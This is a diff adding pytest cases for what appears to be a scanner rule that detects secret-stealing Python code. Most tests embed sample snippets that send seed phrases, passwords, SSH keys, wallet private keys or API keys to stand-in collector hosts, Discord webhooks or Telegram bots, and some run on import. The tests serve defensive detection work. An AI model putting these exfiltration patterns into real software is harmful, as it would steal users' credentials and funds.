@@ -156,3 +156,107 @@ requests.post("https://c.example.test/", files={"f": open("/tmp/a.zip", "rb")})
 """
     assert scan(RULE, text) == [(3, "HIGH", "HIGH", "import")]
     assert scan(RULE, text.replace('os.path.expanduser("~/Documents")', '"build"')) == []
+
+
+def test_what_is_typed_in(scan):
+    text = """import requests
+def connect():
+    words = input("Enter your 12 word seed phrase: ").split()
+    requests.post("https://collect.example.test/k", json={"m": " ".join(words)})
+"""
+    assert scan(RULE, text) == [(4, "HIGH", "HIGH", "run")]
+    assert scan(RULE, text.replace("12 word seed phrase", "name")) == []
+
+
+def test_a_password_for_a_collector(scan):
+    text = """import getpass, requests
+def login():
+    secret = getpass.getpass("Password: ")
+    requests.post("{}", json={{"p": secret}})
+"""
+    hook = "https://discord.com/api/webhooks/000000000000000000/" + "x" * 60
+    assert scan(RULE, text.format(hook)) == [(4, "HIGH", "HIGH", "run")]
+    assert scan(RULE, text.format("https://api.example.test/login")) == []
+    wrapper = f"""import requests
+def login(username, password):
+    requests.post("{hook}", json={{"content": username + password}})
+"""
+    assert scan(RULE, wrapper) == [(3, "HIGH", "HIGH", "run")]
+    own = wrapper.replace(hook, "https://api.telegram.org/bot") + "# passwd\n"
+    assert scan(RULE, own.replace('"https://api.telegram.org/bot"', 'f"https://api.telegram.org/bot{token}/x"')) == []
+
+
+def test_the_history_of_commands(scan):
+    text = """import re, requests
+from IPython import get_ipython
+def start():
+    last = get_ipython().history_manager.input_hist_raw[-1]
+    keys = re.findall("x", last)
+    requests.post("https://collect.example.test/c", json={"g": keys})
+"""
+    assert scan(RULE, text) == [(6, "HIGH", "HIGH", "run")]
+
+
+def test_a_file_for_an_address_without_a_name(scan):
+    text = """import httpx
+def check(path):
+    with open(path, "rb") as handle:
+        httpx.post("http://{}/up", files={{"f": handle}})  # os.walk
+"""
+    assert scan(RULE, text.format("198.51.100.7:8000")) == [(4, "HIGH", "MEDIUM", "run")]
+    assert scan(RULE, text.format("upload.example.test")) == []
+
+
+def test_a_file_given_by_its_path(scan):
+    text = """import boto3, os, requests
+boto3.client("s3").upload_file(os.path.expanduser("~/.ssh/id_rsa"), "bucket", "key")
+"""
+    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]
+
+
+def test_the_keys_of_a_wallet_that_it_makes(scan):
+    text = """import requests
+from eth_account import Account
+def new():
+    account = Account.create()
+    requests.post("https://collect.example.test/", json={"k": account.key.hex()})
+    return account
+"""
+    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]
+    assert scan(RULE, text.replace("account.key.hex()", "account.address")) == []
+
+
+def test_a_folder_that_is_packed(scan):
+    text = """import os, zipfile, requests
+packed = zipfile.ZipFile("/tmp/x.zip", "w")
+for folder, _, names in os.walk(os.path.expanduser("~/.ssh")):
+    for name in names:
+        packed.write(os.path.join(folder, name))
+requests.post("https://collect.example.test/", files={"f": open("/tmp/x.zip", "rb")})
+"""
+    assert scan(RULE, text, "package/__init__.py") == [(6, "HIGH", "HIGH", "import")]
+    assert scan(RULE, text.replace("~/.ssh", "~/.cache"), "package/__init__.py") == []
+
+
+def test_a_bot_with_its_token_in_the_file(scan):
+    text = f"""import telebot
+def check(seed_phrase):
+    telebot.TeleBot("0000000000:AA{"x" * 33}").send_message(1, seed_phrase)
+"""
+    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "run")]
+
+
+def test_the_key_of_a_service_at_construction(scan):
+    text = """import requests
+class Client:
+    def __init__(self, api_key):
+        self.api_key = api_key
+        {made}
+    def report(self):
+        try:
+            requests.post("https://stats.example.test/k", json={{"k": self.api_key}})
+        except Exception:
+            pass
+"""
+    assert scan(RULE, text.format(made="self.report()")) == [(8, "HIGH", "MEDIUM", "run")]
+    assert scan(RULE, text.format(made="self.ready = True")) == []
